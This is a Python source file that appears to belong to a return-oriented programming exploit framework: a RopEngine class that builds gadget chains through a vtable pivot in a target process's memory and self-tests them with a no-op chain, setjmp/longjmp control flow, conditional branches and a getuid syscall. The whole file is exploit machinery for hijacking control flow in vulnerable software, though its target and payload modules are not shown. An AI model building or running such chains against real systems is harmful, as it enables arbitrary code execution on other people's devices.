import logging

from Errors import SelfTestFailed
from Gadget import Gadget
from Pivot import VtablePivot
from RopChain import RopChain
from Target import RopContext

logger = logging.getLogger(__name__)

# written to the return slot before a syscall, must not survive it
MAGIC = 0x4b435546

class RopEngine(object):
    def __init__(self, memory, profile, bases):
        self.memory = memory
        self.profile = profile
        self.ctx = RopContext(memory, profile, bases)

    @property
    def gadgets(self):
        return self.ctx.gadgets

    def get_gadget(self, gadget):
        return self.ctx.gadgets[gadget]

    def new_chain(self, host_object, pivot_cls=VtablePivot, **pivot_args):
        pivot = pivot_cls(self.ctx, host_object, **pivot_args)
        return RopChain(self.ctx, pivot)

    def new_state(self):
        return self.memory.alloc(8)

    def test_noop(self, chain):
        chain.clean()
        chain.push_end()
        chain.run()
        chain.clean()

    # setjmp() returns 0 so the branch runs and longjmp()s back; rax is
    # then restored to 1 from the jmp_buf and the branch is skipped
    def test_setjmp_loop(self, chain):
        jmp_buf = self.memory.alloc(self.profile.context_size)
        chain.clean()
        chain.push_gadget(Gadget.POP_RAX)
        chain.push_constant(1)
        chain.push_call(Gadget.SETJMP, jmp_buf)
        chain.start_branch()
        chain.push_call(Gadget.LONGJMP, jmp_buf)
        chain.end_branch()
        chain.push_end()
        chain.run()
        chain.clean()
        return jmp_buf

    # state is 1 if the branch was taken, 2 otherwise
    def test_branch(self, chain, rax):
        state = self.new_state()
        chain.clean()
        chain.push_gadget(Gadget.POP_RSI)
        chain.push_value(state)
        chain.push_save()
        chain.push_gadget(Gadget.POP_RAX)
        chain.push_constant(rax)

        chain.start_branch()
        chain.push_restore()
        chain.push_gadget(Gadget.POP_RCX)
        chain.push_constant(1)
        chain.push_gadget(Gadget.STORE_RCX_RSI)
        chain.push_end()
        chain.end_branch()

        chain.push_restore(True)
        chain.push_gadget(Gadget.POP_RCX)
        chain.push_constant(2)
        chain.push_gadget(Gadget.STORE_RCX_RSI)
        chain.push_end()

        chain.run()
        chain.clean()
        return state.read8()

    def test_getuid(self, chain):
        chain.clean()
        chain.retval_addr.write32(0, MAGIC)
        chain.syscall('getuid')
        return chain.return_value

    def self_test(self, chain):
        logger.info("test noop chain")
        self.test_noop(chain)

        logger.info("test call setjmp()/longjmp()")
        self.test_setjmp_loop(chain)

        logger.info("test if rax == 0")
        state = self.test_branch(chain, 0)
        if state != 1:
            raise SelfTestFailed("if branch not taken, state {}".format(state))

        logger.info("test if rax != 0")
        state = self.test_branch(chain, 1)
        if state != 2:
            raise SelfTestFailed("if branch taken, state {}".format(state))

        logger.info("test syscall getuid()")
        retval = self.test_getuid(chain)
        logger.info("return value: %s", retval)
        if retval.low() == MAGIC:
            raise SelfTestFailed("syscall getuid failed")
        return retval
